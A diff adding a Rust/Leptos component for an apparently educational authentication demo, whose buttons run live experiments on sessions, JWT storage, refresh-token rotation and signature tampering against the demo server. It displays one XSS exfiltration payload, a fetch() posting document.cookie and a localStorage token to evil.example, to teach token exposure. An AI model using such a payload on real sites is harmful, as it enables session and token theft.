@@ -1,0 +1,392 @@
+//! The claims as live experiments: each card states a textbook claim, and its button runs
+//! real requests against this server (and reads this browser's storage) to show it. Every
+//! number shown comes from a response or from the browser, never from this file.
+
+mod cart;
+mod token_replay;
+
+use leptos::prelude::*;
+use leptos::task::spawn_local;
+use serde_json::{Value, json};
+
+use crate::api::{ACCESS_TOKEN_KEY, DEMO_ACCOUNTS, SESSION_COOKIE};
+use crate::client::{self, Exchange, Method, storage};
+use crate::i18n::{ExperimentTexts, Lang};
+use crate::server_holds::ServerChanged;
+use crate::token;
+
+/// One line of an experiment's result: whether it shows the claim holding (if it is a check),
+/// a label in the visitor's language, and what was measured.
+#[derive(Clone)]
+pub struct Line {
+    pub ok: Option<bool>,
+    pub label: fn(&ExperimentTexts) -> &'static str,
+    pub detail: String,
+}
+
+pub(crate) fn line(
+    ok: impl Into<Option<bool>>,
+    label: fn(&ExperimentTexts) -> &'static str,
+    detail: impl Into<String>,
+) -> Line {
+    Line {
+        ok: ok.into(),
+        label,
+        detail: detail.into(),
+    }
+}
+
+fn alice() -> Value {
+    json!({"username": DEMO_ACCOUNTS[0].username, "password": DEMO_ACCOUNTS[0].password})
+}
+
+pub(crate) async fn get(path: &str, bearer: Option<&str>) -> Exchange {
+    client::send(Method::Get, path, None, bearer.map(str::to_owned)).await
+}
+
+pub(crate) async fn post(path: &str, body: Value) -> Exchange {
+    client::send(Method::Post, path, Some(body), None).await
+}
+
+pub(crate) fn status(exchange: &Exchange) -> String {
+    let code = exchange
+        .status
+        .map_or_else(|| "—".to_owned(), |code| code.to_string());
+    match exchange.field(&["error"]) {
+        Some(error) => format!(
+            "{} {} {code} {error}",
+            exchange.method.as_str(),
+            exchange.path
+        ),
+        None => format!("{} {} {code}", exchange.method.as_str(), exchange.path),
+    }
+}
+
+/// A token login; the tokens as answered.
+pub(crate) async fn token_login() -> (Exchange, String, String) {
+    let exchange = post("/api/jwt/login", alice()).await;
+    let access = exchange.field(&["access_token"]).unwrap_or_default();
+    let refresh = exchange.field(&["refresh_token"]).unwrap_or_default();
+    (exchange, access, refresh)
+}
+
+// --- 1. A session login creates a store row; a token login does not ----------------------
+
+/// The shortened ids in a store listing's rows (`sessions[].id` or `families[].family`).
+async fn listed_ids(path: &str, rows: &str, id: &str) -> Vec<String> {
+    get(path, None)
+        .await
+        .body
+        .get(rows)
+        .and_then(Value::as_array)
+        .map(|rows| {
+            rows.iter()
+                .filter_map(|row| row.get(id).and_then(Value::as_str).map(str::to_owned))
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// The store operations a response's trace reports, as `(op, key)`.
+fn store_ops(exchange: &Exchange) -> Vec<(String, String)> {
+    exchange
+        .body
+        .pointer("/trace/store")
+        .and_then(Value::as_array)
+        .map(|ops| {
+            ops.iter()
+                .map(|op| {
+                    let text = |name: &str| {
+                        op.get(name)
+                            .and_then(Value::as_str)
+                            .unwrap_or_default()
+                            .to_owned()
+                    };
+                    (text("op"), text("key"))
+                })
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+async fn store_rows() -> Vec<Line> {
+    // Matched by id rather than by counting, so other visitors' logins cannot blur it.
+    let session_login = post("/api/session/login", alice()).await;
+    let session_id = session_login.field(&["session", "id"]).unwrap_or_default();
+    let sessions = listed_ids("/api/session/store", "sessions", "id").await;
+    let (token_login, _, _) = token_login().await;
+    let writes = store_ops(&token_login);
+    let families = listed_ids("/api/jwt/refresh-store", "families", "family").await;
+    let family = writes
+        .first()
+        .map(|(_, key)| key.clone())
+        .unwrap_or_default();
+    vec![
+        line(
+            !session_id.is_empty() && sessions.contains(&session_id),
+            |t| t.e1_session_rows,
+            session_id.clone(),
+        ),
+        line(
+            writes.len() == 1 && families.contains(&family),
+            |t| t.e1_token_rows,
+            format!("{} · {family}", writes.len()),
+        ),
+        line(
+            None,
+            |t| t.e1_refresh_rows,
+            format!("{} / {}", families.len(), sessions.len()),
+        ),
+    ]
+}
+
+// --- 2. The browser sends the cookie by itself; the token must be attached by code --------
+
+async fn who_attaches() -> Vec<Line> {
+    post("/api/session/login", alice()).await;
+    let (_, access, _) = token_login().await;
+    let session_me = get("/api/session/me", None).await;
+    let cookie_sent = session_me
+        .traced("received")
+        .iter()
+        .any(|(name, value)| name == "cookie" && value.contains(SESSION_COOKIE));
+    let bare = get("/api/jwt/me", None).await;
+    let attached = get("/api/jwt/me", Some(&access)).await;
+    vec![
+        line(
+            cookie_sent && session_me.ok(),
+            |t| t.e2_cookie_by_browser,
+            status(&session_me),
+        ),
+        line(bare.status == Some(401), |t| t.e2_no_header, status(&bare)),
+        line(attached.ok(), |t| t.e2_header_by_code, status(&attached)),
+    ]
+}
+
+// --- 3. An XSS payload can read localStorage, not an HttpOnly cookie ----------------------
+
+/// What the injected script runs, shown on the card. The experiment runs exactly these two
+/// reads through the same browser APIs (the page's strict CSP allows no `eval`).
+pub const XSS_PAYLOAD: &str = "fetch('https://evil.example/steal', {method: 'POST', body: JSON.stringify({cookie: document.cookie, token: localStorage.getItem('authlens.access_token')})})";
+
+async fn xss() -> Vec<Line> {
+    post("/api/session/login", alice()).await;
+    let (_, access, _) = token_login().await;
+    storage::save(ACCESS_TOKEN_KEY, &access);
+    let stolen_cookie = crate::session_panel::document_cookie();
+    let stolen_token = storage::load(ACCESS_TOKEN_KEY).unwrap_or_default();
+    let as_victim = get("/api/jwt/me", Some(&stolen_token)).await;
+    let victim = as_victim
+        .field(&["user", "display_name"])
+        .unwrap_or_default();
+    vec![
+        line(
+            !stolen_cookie.contains(SESSION_COOKIE),
+            |t| t.e3_cookie_read,
+            format!("document.cookie = {stolen_cookie:?}"),
+        ),
+        line(
+            !stolen_token.is_empty(),
+            |t| t.e3_token_read,
+            format!(
+                "{}… ({} bytes)",
+                stolen_token.chars().take(24).collect::<String>(),
+                stolen_token.len()
+            ),
+        ),
+        line(
+            as_victim.ok(),
+            |t| t.e3_token_used,
+            format!("{} → {victim}", status(&as_victim)),
+        ),
+    ]
+}
+
+// --- 4. Session logout kills the old cookie at once ---------------------------------------
+
+async fn replay_cookie() -> Vec<Line> {
+    post("/api/session/login", alice()).await;
+    let before = get("/api/session/me", None).await;
+    // The record goes; the browser keeps its cookie, as a copy taken before logout would.
+    let logout = post("/api/session/logout?keep_cookie=true", json!({})).await;
+    let replay = get("/api/session/me", None).await;
+    // `invalid_session`, not `no_session`: the cookie was sent, and refused.
+    let refused = replay.field(&["error"]).as_deref() == Some("invalid_session");
+    // Tidy up: a real logout, so the browser forgets the dead cookie.
+    post("/api/session/logout", json!({})).await;
+    vec![
+        line(before.ok(), |t| t.e4_before, status(&before)),
+        line(logout.ok(), |t| t.e4_logout, status(&logout)),
+        line(refused, |t| t.e4_replay, status(&replay)),
+    ]
+}
+
+// --- 6. Refresh tokens: revoked at logout, and reuse revokes the family -------------------
+
+async fn refresh_rules() -> Vec<Line> {
+    let refresh = |token: &str| post("/api/jwt/refresh", json!({"refresh_token": token}));
+    let (_, _, first) = token_login().await;
+    let rotated = refresh(&first).await;
+    let second = rotated.field(&["refresh_token"]).unwrap_or_default();
+    let reuse = refresh(&first).await;
+    let newest = refresh(&second).await;
+    let (_, _, other) = token_login().await;
+    post("/api/jwt/logout", json!({"refresh_token": other})).await;
+    let after_logout = refresh(&other).await;
+    vec![
+        line(rotated.ok(), |t| t.e6_rotate, status(&rotated)),
+        line(
+            reuse.field(&["error"]).as_deref() == Some("refresh_token_reused"),
+            |t| t.e6_reuse,
+            status(&reuse),
+        ),
+        line(
+            newest.field(&["error"]).as_deref() == Some("refresh_token_revoked"),
+            |t| t.e6_family,
+            status(&newest),
+        ),
+        line(
+            after_logout.status == Some(401),
+            |t| t.e6_after_logout,
+            status(&after_logout),
+        ),
+    ]
+}
+
+// --- 8. One changed payload character breaks the signature --------------------------------
+
+async fn tamper() -> Vec<Line> {
+    let (_, access, _) = token_login().await;
+    let Some(tampered) = token::tamper_payload(&access) else {
+        return vec![line(false, |t| t.e8_original, "—")];
+    };
+    let sub = |token: &str| {
+        token::decode(token)
+            .ok()
+            .and_then(|decoded| {
+                decoded
+                    .payload
+                    .get("sub")
+                    .and_then(Value::as_str)
+                    .map(str::to_owned)
+            })
+            .unwrap_or_default()
+    };
+    let original = get("/api/jwt/me", Some(&access)).await;
+    let forged = get("/api/jwt/me", Some(&tampered)).await;
+    let reason = forged.field(&["message"]).unwrap_or_default();
+    vec![
+        line(
+            original.ok(),
+            |t| t.e8_original,
+            format!("sub = {:?} · {}", sub(&access), status(&original)),
+        ),
+        line(
+            forged.status == Some(401),
+            |t| t.e8_tampered,
+            format!(
+                "sub = {:?} · {} · {reason}",
+                sub(&tampered),
+                status(&forged)
+            ),
+        ),
+    ]
+}
+
+/// A started experiment: the requests it makes, then its lines.
+type Run = std::pin::Pin<Box<dyn std::future::Future<Output = Vec<Line>>>>;
+
+/// An experiment that runs once per click and shows its lines.
+#[component]
+fn Experiment(
+    number: u8,
+    title: fn(&ExperimentTexts) -> &'static str,
+    claim: fn(&ExperimentTexts) -> &'static str,
+    run: fn() -> Run,
+    #[prop(optional)] children: Option<Children>,
+) -> impl IntoView {
+    let lang = expect_context::<RwSignal<Lang>>();
+    let texts = move || lang.get().experiment_texts();
+    let server_changed = expect_context::<ServerChanged>();
+    let lines = RwSignal::new(None::<Vec<Line>>);
+    let running = RwSignal::new(false);
+    let start = move |_| {
+        running.set(true);
+        spawn_local(async move {
+            let result = run().await;
+            lines.set(Some(result));
+            running.set(false);
+            server_changed.bump();
+        });
+    };
+    let heading_id = format!("experiment-{number}-title");
+    let labelled_by = heading_id.clone();
+    view! {
+        <article class="experiment" aria-labelledby=labelled_by>
+            <h3 id=heading_id>{format!("{number}. ")}{move || title(texts())}</h3>
+            <p>{move || claim(texts())}</p>
+            {children.map(|children| children())}
+            <button type="button" on:click=start disabled=move || running.get()>
+                {move || if running.get() { texts().running } else { texts().run }}
+            </button>
+            <ResultLines lines test_id=format!("experiment-{number}-result")/>
+        </article>
+    }
+}
+
+#[component]
+pub(crate) fn ResultLines(lines: RwSignal<Option<Vec<Line>>>, test_id: String) -> impl IntoView {
+    let lang = expect_context::<RwSignal<Lang>>();
+    let texts = move || lang.get().experiment_texts();
+    view! {
+        <ul class="result-lines" role="status" data-testid=test_id>
+            {move || {
+                lines.get().unwrap_or_default().into_iter().map(|line| {
+                    let verdict = match line.ok {
+                        Some(true) => texts().as_claimed,
+                        Some(false) => texts().not_as_claimed,
+                        None => "",
+                    };
+                    view! {
+                        <li class:passed=line.ok == Some(true) class:failed=line.ok == Some(false)>
+                            {(!verdict.is_empty()).then(|| view! { <strong>{verdict}</strong> " " })}
+                            {(line.label)(texts())}
+                            ": "
+                            <code>{line.detail}</code>
+                        </li>
+                    }
+                }).collect_view()
+            }}
+        </ul>
+    }
+}
+
+macro_rules! boxed {
+    ($f:path) => {
+        || Box::pin($f())
+    };
+}
+
+#[component]
+pub fn Experiments() -> impl IntoView {
+    let lang = expect_context::<RwSignal<Lang>>();
+    let texts = move || lang.get().experiment_texts();
+    view! {
+        <section class="experiments" aria-labelledby="experiments-title">
+            <h2 id="experiments-title">{move || texts().section_title}</h2>
+            <p class="muted">{move || texts().section_intro}</p>
+            <div class="experiment-grid">
+                <Experiment number=1 title=|t| t.e1_title claim=|t| t.e1_claim run=boxed!(store_rows)/>
+                <Experiment number=2 title=|t| t.e2_title claim=|t| t.e2_claim run=boxed!(who_attaches)/>
+                <Experiment number=3 title=|t| t.e3_title claim=|t| t.e3_claim run=boxed!(xss)>
+                    <pre class="payload"><code>{XSS_PAYLOAD}</code></pre>
+                </Experiment>
+                <Experiment number=4 title=|t| t.e4_title claim=|t| t.e4_claim run=boxed!(replay_cookie)/>
+                <token_replay::TokenReplay/>
+                <Experiment number=6 title=|t| t.e6_title claim=|t| t.e6_claim run=boxed!(refresh_rules)/>
+                <cart::CartGrowth/>
+                <Experiment number=8 title=|t| t.e8_title claim=|t| t.e8_claim run=boxed!(tamper)/>
+            </div>
+        </section>
+    }
+}
